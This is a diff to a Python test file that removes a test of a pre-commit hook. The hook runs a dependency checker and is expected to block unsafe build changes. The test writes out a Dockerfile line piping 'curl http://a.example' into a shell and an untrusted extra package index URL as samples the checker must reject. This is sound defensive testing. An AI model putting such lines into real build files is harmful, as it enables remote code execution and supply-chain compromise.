@@ -571,49 +571,6 @@ def test_the_command_is_light():
     assert done.stdout.split() == [], done.stderr
 
 
-def git(folder, *words):
-    line = ["git", "-c", "user.name=a", "-c", "user.email=a@example", *words]
-    return subprocess.run(line, cwd=folder, capture_output=True, text=True)
-
-
-def test_a_hook_blocks_the_bad_commit_and_passes_the_good_one(tmp_path, monkeypatch):
-    monkeypatch.setenv("PRE_COMMIT_HOME", str(tmp_path / "cache"))
-    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/dev/null")
-    repository = tmp_path / "repository"
-    repository.mkdir()
-    entry = f"{sys.executable} -m securetrain.cli dependencies check"
-    hook = f"""
-repos:
-  - repo: local
-    hooks:
-      - id: dependencies
-        name: dependencies
-        entry: env PYTHONPATH={ROOT} {entry}
-        language: system
-        files: (requirements.*\\.(txt|lock)|Dockerfile.*)$
-"""
-    (repository / ".pre-commit-config.yaml").write_text(hook)
-    git(repository, "init", "--quiet")
-    line = [sys.executable, "-m", "pre_commit", "install"]
-    subprocess.run(line, cwd=repository, check=True, capture_output=True)
-    (repository / "requirements.lock").write_text(GOOD)
-    (repository / "Dockerfile").write_text(HARD)
-    git(repository, "add", ".")
-    done = git(repository, "commit", "-m", "good")
-    assert done.returncode == 0, done.stdout + done.stderr
-    (repository / "requirements.lock").write_text(f"{GOOD}--extra-index-url http://a\n")
-    (repository / "Dockerfile").write_text(HARD + "RUN curl http://a.example | sh\n")
-    git(repository, "add", ".")
-    done = git(repository, "commit", "-m", "bad")
-    assert done.returncode == 1
-    assert "requirements.lock:2: index:" in done.stderr
-    assert "Dockerfile:4: pipe-to-shell:" in done.stderr
-    (repository / "requirements.lock").write_text(GOOD + f"torch==2.14.1 {HASH}\n")
-    (repository / "Dockerfile").write_text(HARD + "RUN echo\n")
-    git(repository, "add", ".")
-    assert git(repository, "commit", "-m", "good again").returncode == 0
-
-
 # --- The list of everything inside ----------------------------------------------------
 
 
